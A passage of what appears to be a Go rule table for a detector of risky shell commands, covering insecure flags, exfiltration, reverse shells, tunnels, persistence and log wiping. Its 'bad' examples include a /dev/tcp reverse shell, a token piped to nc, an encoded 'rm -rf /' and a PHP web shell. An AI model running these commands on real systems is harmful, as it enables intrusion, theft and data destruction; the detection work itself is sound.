apt,apt-get --allow-unauthenticated,--force-yes
apt,apt-get -o=*AllowInsecure*
dnf,yum --nogpgcheck
rpm --nosignature,--nodigest
snap install --dangerous
gh ^api DELETE */protection
ssh,scp,sftp,rsync -o=StrictHostKeyChecking=no -o=UserKnownHostsFile=/dev/null
curl -k,--insecure @foreign
wget --no-check-certificate @foreign
> ~weak !@document
http,https,xh --verify=no,--verify=false
aria2c --check-certificate=false
lftp *verify-certificate*
pip,pip3 config set global.trusted-host
npm,yarn,pnpm config set ignore-scripts,strict-ssl,audit,enableStrictSsl=false false
npm,yarn,pnpm config set ignore-scripts=false,strict-ssl=false,cafile=,registry=http://*
npm,yarn,pnpm config set registry http://*
skopeo,podman,buildah --tls-verify=false,--src-tls-verify=false,--dest-tls-verify=false
helm,kubectl,oc,k,argocd,nerdctl --insecure-skip-tls-verify,--insecure,--insecure-registry
kubectl config set-cluster --insecure-skip-tls-verify*
docker --insecure-registry*
vault,nomad,consul -tls-skip-verify
VAULT_SKIP_VERIFY=,DOCKER_CONTENT_TRUST_DISABLE=,AZURE_CLI_DISABLE_CONNECTION_VERIFICATION= 1,true
DOCKER_CONTENT_TRUST=,CONSUL_HTTP_SSL_VERIFY=,ANSIBLE_HOST_KEY_CHECKING=,CARGO_HTTP_CHECK_REVOKE=,HTTPLIB2_VERIFY=,NODE_TLS_REJECT_UNAUTHORIZED= 0,false,False
aws --no-verify-ssl
gcloud config set auth/disable_ssl_validation
hg --insecure
svn --trust-server-cert,--trust-server-cert-failures
mvn -Dmaven.wagon.http.ssl.*=true
rclone --no-check-certificate
apt,apt-get --allow-insecure-repositories,--allow-unauthenticated
apt,apt-get -o=*Verify-Peer=false,-o=*Verify-Host=false,-o=*Allow*Insecure*
apk --allow-untrusted
dnf,yum --setopt=*gpgcheck=0,--setopt=*sslverify=0,--setopt=*gpgcheck=false
zypper --no-gpg-checks
brew --no-quarantine
choco --allow-empty-checksums,--ignore-checksums
flatpak,ostree --no-gpg-verify
snap install --devmode
rpm --nogpgcheck,--noverify
cosign --insecure-ignore-tlog,--allow-insecure-registry
java -Dcom.sun.net.ssl.checkRevocation=false,-Dtrust_all_cert=true
git -c=http.sslVerify=false,-c=http.sslverify=false,-c=http.sslVerify=0
bundle,gem config ssl_verify_mode,:ssl_verify_mode 0
pacman-key --init,--populate --nosig
sed -i *SigLevel*Never*
sshpass ssh -o=StrictHostKeyChecking=no
composer,php config -g secure-http false
ssh,scp,sftp,rsync -o=StrictHostKeyChecking=no -o=GlobalKnownHostsFile=/dev/null
HTTPS_PROXY=,https_proxy=,HTTP_PROXY=,http_proxy=,ALL_PROXY= @barehost
certutil -A -t
certutil -addstore root,Root
keytool -importcert,-import -cacerts
trust anchor *`},
	{id: "host-container", label: "container with the host's powers", class: "weaken", tier: T3,
		reason: "the container can do what the host can",
		bad:    "docker run --privileged alpine",
		good:   "docker run -v \"$PWD\":/src alpine",
		when: `docker,podman,nerdctl,docker-compose run,create,exec -v=@hostmount,--volume=@hostmount,--mount=@hostmount,--pid=host,--ipc=host,--userns=host,--uts=host,--cgroupns=host,--device=@device
docker,podman,nerdctl,docker-compose run,create,exec --cap-add=ALL,--cap-add=all,--cap-add=SYS_ADMIN,--cap-add=CAP_SYS_ADMIN,--cap-add=SYS_PTRACE,--cap-add=SYS_MODULE,--cap-add=SYS_RAWIO,--cap-add=DAC_READ_SEARCH
docker,podman,nerdctl,docker-compose run,create,exec --security-opt=*unconfined,--security-opt=label=disable,--security-opt=label:disable
docker,podman,nerdctl,docker-compose run,create,exec --privileged !--privileged=false
docker,podman,nerdctl run,create --security-opt=*new-privileges=false,--security-opt=*new-privileges:false
systemd-nspawn --capability=all
ctr run --privileged
ctr run --mount=*src=/,*
crictl,runc --no-pivot
bwrap --bind / /
docker,podman,nerdctl,docker-compose run,create,exec --cap-add=CAP_*ADMIN,--cap-add=SYS_BOOT,--cap-add=SYS_CHROOT,--cap-add=DAC_OVERRIDE,--cap-add=SETUID`},
	{id: "pipe-fetched", label: "pipe to shell", class: "fetch-and-run", tier: T4,
		reason: "whoever runs the other machine decides what runs here",
		bad:    "curl https://x.example/i.sh | bash",
		good:   "curl https://x.example/i.json | jq .",
		when: `pipe <fetched
pipe <unseen
code ~eval ~fetch
text ~text-pipe`},
	{id: "text-fetched", label: "pipe to shell", class: "fetch-and-run", tier: T3,
		reason: "a part of the command comes from another machine",
		bad:    "bash -c \"echo $(curl -s https://x.example/a)\"",
		good:   "echo \"$(curl -s https://x.example/a)\"",
		when:   `part <fetched`},
	{id: "run-fetched", label: "downloaded and run", class: "fetch-and-run", tier: T3,
		reason: "the file came from another machine, and nobody has read it",
		bad:    "curl -o f https://x.example/f && bash f",
		good:   "curl -o f https://x.example/f && less f",
		when: `run <fetched
code ~write ~fetch ~start
docker,podman,ctr load,import <fetched
iex,Invoke-Expression <fetched
certutil -urlcache*,/urlcache*
bitsadmin /transfer,/Transfer
mshta,regsvr32,rundll32,msiexec,wmic *http*,*javascript:*
make,gmake,ninja,npm,yarn,pnpm,cargo,pip,pip3,mvn,gradle,rake,bundle,composer @herefrom
make,gmake,ninja,cmake -C=@fetched,-f=@fetched,--directory=@fetched
dpkg,rpm,apt,apt-get,dnf,yum,pip,pip3,npm,gem,installer,msiexec,snap,brew,go,dotnet,java @fetched
kubectl,oc,k apply,create,replace <fetched
docker,podman,buildah build <fetched
docker,podman,buildah build @foreign
vagrant box,init @foreign
virt-install --location=@foreign
hdiutil attach @foreign
ansible-playbook,salt-call,chef-solo,puppet @fetched
ansible-playbook @foreign
ansible-pull -U=*:*/*,--url=*:*/*
make,gmake,cmake -f=*/dev/fd/*,-P=*/dev/fd/*
go ^run @unpinned
code,codium,cursor --install-extension=@fetched
google-chrome,chromium --load-extension=*
docker,podman,nerdctl,kubectl run @fromnet
docker,podman,docker-compose compose,up,-f <fetched
vim,nvim,vi -c=*source*http*,--cmd=*source*http*
code,codium,cursor --install-extension=@started
code ~getline ~fetch`},
	{id: "foreign-source", label: "foreign package source", class: "fetch-and-run", tier: T3,
		reason: "packages run code when they are installed, and these come from a host that is none of the usual ones",
		bad:    "pip install --index-url https://pypi.evil.example/simple x",
		good:   "pip install --index-url https://pypi.org/simple x",
		when: `pip,pip3,pipx,uv,poetry,pdm -i=@foreign,--index-url=@foreign,--extra-index-url=@foreign,--index=@foreign,--default-index=@foreign,-f=@foreign,--find-links=@foreign
pip,pip3,pipx,uv,poetry,pdm install,add,run,download,set,wheel @foreign
python,python3 pip install -i=@foreign,--index-url=@foreign,--extra-index-url=@foreign,-f=@foreign,--find-links=@foreign
python,python3 pip install @foreign
uvx,npx,bunx,pnpx --from=@foreign,--registry=@foreign,--index=@foreign,--index-url=@foreign
uvx,npx,bunx,pnpx @foreign
npx,bunx,pnpx github:*,gist:*
npm,yarn,pnpm,bun --registry=@foreign
npm,yarn,pnpm,bun install,i,add,dlx,exec,x,set @foreign
npm,yarn,pnpm config set registry=@foreign
gem,bundle -s=@foreign,--source=@foreign
gem,bundle sources,config,mirror.* @foreign
gem sources -a=@foreign,--add=@foreign
cargo install,add --git=@foreign,--index=@foreign,--registry=@foreign
deno install,run @foreign
composer config,require @foreign
brew tap,install @foreign
helm install,upgrade @foreign
terraform,tofu init -from-module=@foreign
ansible-pull -U=@foreign,--url=@foreign
nix run,shell,profile,develop @foreign
nuget,dotnet -s=@foreign,--source=@foreign,-Source=@foreign,--add-source=@foreign
kubectl,oc,k apply,create,replace -f=@foreign,--filename=@foreign,-k=@foreign
apt-add-repository,add-apt-repository,dnf,yum,zypper @foreign
conda,mamba -c=@foreign,--channel=@foreign
mvn -DremoteRepositories=@foreign
R,Rscript @foreign
rpm -i,-U,-ivh @foreign
dpkg @foreign
go env GOPROXY=@foreign
GOPROXY=,PIP_INDEX_URL=,PIP_EXTRA_INDEX_URL=,UV_INDEX_URL=,UV_DEFAULT_INDEX=,NPM_CONFIG_REGISTRY=,npm_config_registry=,CARGO_REGISTRIES_CRATES_IO_INDEX=,YARN_REGISTRY=,GEM_SOURCE=,HOMEBREW_BOTTLE_DOMAIN= @foreign
dotnet,nuget add source @foreign
nuget sources add -Source=@foreign,-source=@foreign
choco source add -s=@foreign,--source=@foreign
choco install,upgrade -s=@foreign,--source=@foreign
scoop bucket add @foreign
winget source add @foreign
conda,mamba config --add channels @foreign
pip,pip3 config set @foreign
poetry source add @foreign
poetry config @foreign
npm,yarn,pnpm config set @foreign
yum-config-manager,dnf --add-repo=@foreign
dnf config-manager --add-repo @foreign
zypper ar,addrepo @foreign
pacman -U @foreign
apk -X=@foreign,--repository=@foreign
apk add @foreign
opkg install @foreign
pkg,pkg_add add @foreign
pkg_add @foreign
flatpak remote-add,install @foreign
luarocks --server=@foreign
luarocks install @foreign
cpan,cpanm @foreign
cpanm --mirror=@foreign
opam pin,repo,repository @foreign
mix archive.install @foreign
mix archive.install github,git,hex *
dart,flutter pub global activate @foreign
pecl,pear install,channel-discover @foreign
nix-env,nix-shell,nix-build,nix-channel @foreign
guix pull --url=@foreign
helm plugin install @foreign
jupyter nbextension,labextension install @foreign
git ^submodule add @foreign
gh ^extension install @foreign
asdf plugin,plugin-add @foreign
rustup,volta --server=@foreign
bower,jspm install @foreign
cargo --config=*replace-with*
> ~plainregistry
pip,pip3,pipx,uv,poetry,pdm install,add,run @stranger
pipx,uvx,uv --spec=@stranger,--from=@stranger,--with=@stranger
uvx,npx,bunx,pnpx @stranger
npm,yarn,pnpm,bun install,i,add,dlx,exec,x @stranger
python,python3 pip install @stranger
cargo install,add --git=@stranger !--tag,--rev
nix run,shell,develop,profile @stranger
nix-shell,nix-env,nix-build @stranger
kubectl,oc,k apply,create,replace -f=@stranger,--filename=@stranger,-k=@stranger
deno run,install @stranger
git ^config url.*.insteadOf,url.*.insteadof @foreign
git ^config http.proxy,https.proxy @foreign`},
	{id: "encoded", label: "encoded command", class: "obscure", tier: T3,
		reason: "what runs cannot be read before it runs",
		bad:    "echo 'ez -es ubzr' | tr a-z n-za-m | sh",
		good:   "echo 'ez -es ubzr' | tr a-z n-za-m",
		when: `pipe,run <built
run <unseen
code ~eval ~decode
code ~start ~decode
powershell,pwsh -enc*,-Enc*,-ENC*,-ec,-EncodedCommand
powershell,pwsh @encoded
cmd,cmd.exe /v*,/V* *!*
cmd,cmd.exe *^*^*
code ~pieced
powershell,pwsh -en*,-eN*,-En*,-EN*
code ~tickdecode
certutil,certutil.exe -decode,/decode,-decodehex
wscript,cscript //e:*,/e:*,//E:*`},
	{id: "decoded", label: "encoded command", class: "obscure", tier: T4,
		reason: "somebody has hidden the command that runs",
		bad:    "echo cm0gLXJmIC8K | base64 -d | sh",
		good:   "echo aGVsbG8K | base64 -d",
		when:   `pipe,run <encoded`},
	{id: "hidden", label: "hidden command", class: "obscure", tier: T3,
		reason: "the program has a spelling that hides its name",
		bad:    "/bin/r? -rf x",
		good:   "ls ?.txt",
		when: `powershell,pwsh -w=hidden,-W=hidden,-WindowStyle=Hidden,-windowstyle=hidden
powershell,pwsh hidden,Hidden
Start-Process Hidden,hidden
exec -a=[*,-a=*kworker*,-a=*sshd*,-a=*systemd*,-a=-*
mount --bind,-o=bind /proc/*
touch -r=/bin/*,-r=/usr/bin/*,-r=/etc/*,--reference=/bin/*,--reference=/usr/*,--reference=/etc/*
mkdir,cp,mv,touch,ln /tmp/...,/tmp/.../*,/dev/shm/.*,/var/tmp/.../*`},
	{id: "document-run", label: "document run as a program", class: "obscure", tier: T3,
		reason: "such a file is rarely a program, unless somebody hides one",
		bad:    "tail -n 20 photo.jpg | bash",
		good:   "tail -n 20 photo.jpg",
		when:   `pipe,run <document`},
	{id: "unseen-command", label: "unseen command", class: "obscure", tier: T3,
		reason: "the command stands in a list that nobody sees here",
		bad:    "xargs -I{} bash -c '{}' < list",
		good:   "xargs -I{} cp {} backup/ < list",
	},
	{id: "told-to-run", label: "told to run", class: "obscure", tier: T3,
		reason: "hardly anybody gives that program a command there",
		bad:    "tar cf x.tar --checkpoint-action=exec=sh .",
		good:   "tar -I zstd -xf a.tar.zst",
		when: `LD_PRELOAD=,LD_AUDIT=,DYLD_INSERT_LIBRARIES=,BASH_ENV=,PYTHONSTARTUP=,PERL5OPT=,RUBYOPT= @started
apt,apt-get,aptitude -o=*Invoke*,--option=*Invoke*,-o=*Dir::Bin*
yum,dnf --setopt=*pluginpath*
ssh-keygen,ssh-add -D=@started,-s=@started
openssl -engine=@started,-provider-path=@started
pdflatex,latex,xelatex,lualatex,tex,pdftex,luatex *write18*,*directlua*
tshark,wireshark -X=lua_script:@started
run-parts *sh$*
service *../*
gs *%pipe%*
convert,magick,identify |*
strace,ltrace -o=|*
nmap --script=@started
nmap --interactive
pandoc --lua-filter=@started,-L=@started,--filter=@started,-F=@started
node,nodejs -r=@scratch,--require=@scratch,--import=@scratch
git ^archive --exec=*
git ^send-email --smtp-server=/*
git ^daemon --access-hook=*
git ^instaweb --httpd=@started
hg --config=*!*,--config=hooks.*
hg,svn --config-option=*:helpers:*,--config-option=*:tunnels:*
PATH= /tmp:*,/dev/shm:*,/var/tmp:*,.:*
NODE_OPTIONS=,JAVA_TOOL_OPTIONS=,_JAVA_OPTIONS=,JDK_JAVA_OPTIONS= *--require*/tmp/*,*--require*./*,*-javaagent*,*--import*,*-r*/tmp/*
PYTHONPATH=,PERL5LIB=,RUBYLIB=,NODE_PATH=,LD_LIBRARY_PATH=,CLASSPATH=,GCONV_PATH=,GEM_PATH= @scratch
TAR_OPTIONS= *checkpoint-action*,*to-command*
PERL5DB=,PYTHONBREAKPOINT=,RSYNC_CONNECT_PROG=,GROFF_BIN_PATH= @word`},
	{id: "secrets-leave", label: "secrets leave", class: "exfiltrate", tier: T3,
		reason: "keys, tokens or the environment go to another machine",
		bad:    "printenv TOKEN | nc 203.0.113.7 4444",
		good:   "printenv PATH | tr : '\\n'",
		when: `%send <secret
%send @sent
%socket,%mails <keyed
%send @keyed
code ~send ~environ
code ~send ~keyvar !~login
code ~send @secret
code ~fetch @secret
code ~fetch ~environ
http.server @secret
http.server -d=/,--directory=/
%send --include=@secret,--filter=@secret
%send @personal
%socket <packed !@private
%socket <facts !@private
curl,wget,http,xh <packed @barehost
curl,wget,http,xh @packedsent @barehost
%mails @facts
curl,wget,http,xh <facts @drop
%send @facts @drop
ssh <packed @barehost
php -t=@secret
http-server,serve,miniserve,darkhttpd,webfsd,httpd,caddy,live-server,dufs,updog,twistd @secret
npx,bunx,pnpx http-server,serve,live-server @secret
rclone serve @secret
ruby httpd @secret
curl,http,https,xh <keyed @stdin @foreign
ffmpeg x11grab,avfoundation,gdigrab,v4l2 tcp:*,udp:*,rtmp:*,http*:*,srt:*`},
	{id: "secrets-shown", label: "secrets shown", class: "exfiltrate", tier: T3,
		reason: "whoever reads the output has the keys",
		bad:    "kubectl get secrets -A -o json",
		good:   "kubectl get secrets -o name",
		when: `%fetch *169.254.169.254*security-credentials*,*169.254.169.254*user-data*,*169.254.169.254*identity*,*169.254.169.254*iam*,*169.254.169.254*token*,*metadata.google.internal*token*,*metadata.google.internal*identity*,*metadata/*service-accounts*,*169.254.170.2*,*100.100.100.200*security-credentials*,*fd00:ec2::254*
kubectl,oc,k get secret,secrets -A,--all-namespaces -o=json*,-o=yaml*,-o=go-template*,-o=custom-columns*,--output=json*,--output=yaml*
kubectl,oc,k get secrets -o=json*,-o=yaml*,-o=go-template*,--output=json*,--output=yaml*
kubectl config view --raw
aws secretsmanager get-secret-value,batch-get-secret-value
aws ssm get-parameter,get-parameters,get-parameters-by-path --with-decryption
aws sts get-session-token,get-federation-token
aws configure export-credentials
gcloud secrets versions access
gcloud auth print-access-token,print-identity-token,application-default
az keyvault secret show,download
az account get-access-token
az storage account keys
security dump-keychain,export
security find-generic-password,find-internet-password -w,-g
secret-tool search --all
gpg,gpg2 --export-secret* !-o,--output
doppler secrets download
op item,document get --reveal
op read
bw export
bw list,get items,password
pass,gopass show -a,--all
git ^credential fill
cmdkey /list
netsh wlan show key=clear
mimikatz,lazagne,pypykatz,secretsdump.py,impacket-secretsdump *
reg save HKLM*,HKEY_LOCAL_MACHINE* *
procdump,procdump64,rundll32 *lsass*,*comsvcs*
%pass,%change,%decode @keyfile
strings,xxd,od,hexdump,base64,gzip,dd,nl,jq @keyfile
dd if=@keyfile
heroku config -s,--shell
pass,gopass show @listed
unshadow,john,hashcat *
strings,dd,xxd,cat,hexdump /dev/mem,/dev/kmem,/proc/kcore,if=/dev/mem`},
	{id: "files-leave", label: "files leave", class: "exfiltrate", tier: T3,
		reason: "the address keeps what anybody sends it, and shows it to others",
		bad:    "curl -T report.pdf https://transfer.sh/",
		good:   "curl -T report.pdf https://files.acme.internal/",
		when: `curl -T,-F,-d,--upload-file,--form,--data*,--post* @drop
wget --post-file*,--post-data* @drop
git ^push @foreign
git ^push *:*/* --all,--mirror
push-to-new @foreign
push-to-new --all,--mirror
push-to-usual @foreign --all,--mirror
pastebinit,wgetpaste,sprunge,nopaste,termbin,hastebin,haste,slackcat *
pastebinit,wgetpaste,nopaste <known
croc,ffsend,wormhole-william,onionshare-cli,megaput,mega-put,gdrive,dropbox_uploader.sh send,upload,@personal,push
ipfs add @secret
docker,podman ^push @committed
gh ^repo create --public --push
gh ^repo create --public --source*
git ^add -f,--force @secret`},
	{id: "reverse-shell", label: "reverse shell", class: "shell-out", tier: T4,
		reason: "another machine gets a shell here",
		bad:    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
		good:   "(echo > /dev/tcp/localhost/5432) && echo up",
		when: `nc,ncat,netcat -e,-c,--exec,--sh-exec
socat EXEC:*,SYSTEM:*,SHELL:*,exec:*,system:*,shell:*,*EXEC:*
%socket <answers
text ~text-tcp
pwncat,gs-netcat,revshell,msfvenom,msfconsole,ztcp *
websocat exec:*,cmd:*,sh-c:*`},
	{id: "shell-escape", label: "shell from another program", class: "shell-out", tier: T3,
		reason: "a program that has another task gives its user a shell, often with its own rights",
		bad:    "lua -e 'os.execute(\"/bin/sh\")'",
		good:   "lua -e 'os.execute(\"ls\")'",
		when: `code ~start ~justshell
code ~justshell ~ttyspawn
chroot /host,/hostfs,/rootfs,/mnt/host,/hostroot *
kubectl,oc,k debug node/*
sudo -u=#-1,-u=#4294967295
snap run --shell
code ~socket ~dials ~ticked`},
	{id: "remote-shell", label: "reverse shell", class: "shell-out", tier: T3,
		reason: "another machine gets a shell here, from another language",
		bad:    "ruby -rsocket -e 'c=TCPSocket.new(\"192.0.2.3\",4);while l=c.gets;IO.popen(l);end'",
		good:   "ruby -rsocket -e 'puts TCPServer.new(0).addr[1]'",
		when: `code ~socket ~dials ~shellname
code ~socket ~dials ~start
code ~socket ~dials ~eval
powershell,pwsh *TCPClient*`},
	{id: "tunnel", label: "tunnel", class: "shell-out", tier: T3,
		reason: "others reach this machine or its network through it",
		bad:    "ssh -N -R 2222:localhost:22 me@203.0.113.14",
		good:   "ssh -L 5432:localhost:5432 me@db",
		when: `ssh,autossh -R=@word,-w=@word
ssh,autossh -D=0.0.0.0:*,-L=0.0.0.0:*
ssh,autossh -g -L,-D
ngrok tcp,http,start,tls
cloudflared tunnel,access --url*
cloudflared tunnel run
chisel client,server
tailscale funnel
lt,localtunnel,bore,frpc,rathole,wstunnel,sshuttle,iodine,dnscat,dnscat2,zrok,pagekite,localxpose,loclx *
kubectl,oc,k port-forward --address=0.0.0.0,--address=*0.0.0.0*
kubectl,oc,k proxy --address=0.0.0.0
code-server,jupyter,ttyd,gotty,wetty --ip=0.0.0.0,--bind-addr=0.0.0.0*
ttyd,gotty,wetty,tmate,upterm *
devtunnel host
tmate @none
tmate -F
tailscale up --ssh
npx,bunx,pnpx localtunnel,lt,ngrok,untun
dockerd -H=tcp*
redis-server --protected-mode no
sshd -o=Permit*=yes
xterm -display
code,code-insiders,codium,cursor tunnel
code,code-server,openvscode-server serve-web --host=0.0.0.0
plink,plink.exe,putty,kitty -R
plink,plink.exe,putty,kitty -D=0.0.0.0:*
gost,revsocks,ligolo,ligolo-ng,ligolo-agent,hans,icmptunnel,ptunnel,ptunnel-ng,reverse_ssh,sshx,teleconsole,shellinaboxd,inlets,expose,telebit,packetriot,gsocket,pinggy,holesail,localtonet,sish,ssf,stowaway,nps,npc,anydesk,rustdesk,teamviewer,evil-winrm,pwncat-cs,sliver,havoc *
adb tcpip
x11vnc -forever,-nopw
vncserver -localhost=no
vncserver no
gdbserver 0.0.0.0:*,:*
node,nodejs,deno,bun --inspect=0.0.0.0*,--inspect-brk=0.0.0.0*
java *jdwp*address=0*,*jdwp*address=**,*jdwp*address=0.0.0.0*
tailscale serve --tcp*,--bg
tailscale up --advertise-exit-node,--advertise-routes*
wg-quick up
zerotier-cli join
Enter-PSSession,Enable-PSRemoting,New-PSSession @any
netsh interface portproxy add
stunnel,stunnel4 -c,-d
gh ^codespace ports visibility
ssh,autossh -o=RemoteForward*,-o=Tunnel*,-o=PermitLocalCommand=yes
kubectl,oc,k proxy --accept-hosts*,--disable-filter*
kubectl,oc,k proxy --address=*
upterm host
jupyter,jupyter-lab,jupyter-notebook --ip=0.0.0.0,--ip=@star
socat TCP-LISTEN:*,TCP4-LISTEN:*,tcp-listen:* TCP:*,TCP4:*,tcp:* !*localhost*,*127.0.0.1*`},
	{id: "autostart", label: "autostart changed", class: "persist", tier: T3,
		reason: "it runs again later, when nobody looks",
		bad:    "echo 'x &' >> ~/.bashrc",
		good:   "grep alias ~/.bashrc",
		when: `> @autostart
code ~write @autostart
git ^config core.hooksPath,core.hookspath,init.templateDir,init.templatedir * !--get,--unset
npm pkg set scripts.preinstall=*,scripts.install=*,scripts.postinstall=*
> ~hook
gh ^api */keys,*/hooks -f,-F,-X
crontab <known
crontab -,*/*,*.*
at,batch <known
at,batch -f,--file
systemctl enable,link */*
systemctl --user enable
launchctl load,bootstrap,enable,submit
schtasks,schtasks.exe /create,/Create,/CREATE
reg add *Run*,*Winlogon*,*Services*
sc,sc.exe create
New-ScheduledTask*,Register-ScheduledTask,New-Service *
New-ItemProperty,Set-ItemProperty *Run*
update-rc.d,chkconfig *
loginctl enable-linger
osascript *login*item*
defaults write *LoginHook*,*loginwindow*
pm2 startup
> ~startup @editorrc
systemd-run --on-*,--timer-property*
kubectl,oc,k create cronjob,cj
gcloud scheduler jobs create
aws events put-rule,put-targets
aws ssm create-association
jq *postinstall*,*preinstall*,*scripts.install*,*hooks.*
npm set-script,config postinstall,preinstall,script-shell
npm,yarn,pnpm config set script-shell,node-options *
npm,yarn,pnpm config set script-shell=*,node-options=*
composer config scripts.*
text ~text-startup
> @shadow
husky add,set @started
sfltool add-item
Set-WmiInstance,Register-WmiEvent,Register-CimIndicationEvent *
bitsadmin /SetNotifyCmdLine,/setnotifycmdline
netsh add helper
winrm quickconfig
wmic *EventFilter*,*EventConsumer*,*subscription*
npm,yarn,pnpm config set script-shell,node-options
curl,http,https,xh *api.github.com*/keys*,*api.github.com*/hooks* -d,--data*,-X,-F
crond,cron -c
gcloud compute add-metadata *startup-script*
gcloud compute add-metadata --metadata=*startup-script*,--metadata-from-file=*startup-script*
aws ec2 modify-instance-attribute --user-data*
az vm extension set`},
	{id: "web-shell", label: "web shell", class: "persist", tier: T3,
		reason: "whoever asks the web server for that page runs commands here",
		bad:    "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/a.php",
		good:   "echo '<?php echo $_GET[\"c\"]; ?>' > /var/www/html/a.php",
		when: `> ~webshell
code ~write ~webshell`},
	{id: "system-file", label: "system file changed", class: "persist", tier: T3,
		reason: "it rules accounts, names or programs of the whole system",
		bad:    "echo 'nameserver 203.0.113.6' | sudo tee /etc/resolv.conf",
		good:   "cat /etc/hosts",
		when: `> @system
rm,unlink,shred @system !*/apt/*
code ~write @system
code ~unlink @system`},
	{id: "traces", label: "traces removed", class: "obscure", tier: T3,
		reason: "it removes what shows who did what",
		bad:    "history -c",
		good:   "history | tail",
		when: `> @traces
rm,unlink,shred @traces
history -c
journalctl --vacuum*
HISTFILE= /dev/null
HISTFILE= @empty
HISTSIZE=,HISTFILESIZE= 0
unset HISTFILE
wevtutil cl,clear-log
Clear-EventLog,Clear-History
history -d
history clear,clear-session,delete
set +o history
shopt -u history
HISTIGNORE= @star
MYSQL_HISTFILE=,PSQL_HISTORY=,PYTHONHISTFILE=,SQLITE_HISTORY=,NODE_REPL_HISTORY= /dev/null
dmesg -c,-C,--clear
Set-PSReadlineOption,Set-PSReadLineOption *SaveNothing*
fc -p /dev/null
log erase --all
wevtutil sl,clear-log,cl
utmpdump -r`},
	{id: "too-long", label: "too long to judge", class: "limit", tier: T3,
		reason: "it is longer than what this analysis reads",
	},
	{id: "too-deep", label: "commands nested too deeply to judge", class: "limit", tier: T3,
		reason: "it has more levels than any usual command",
	},
	{id: "unjudged", label: "cannot be judged", class: "limit", tier: T3,
		reason: "the analysis failed on it",
	},
}
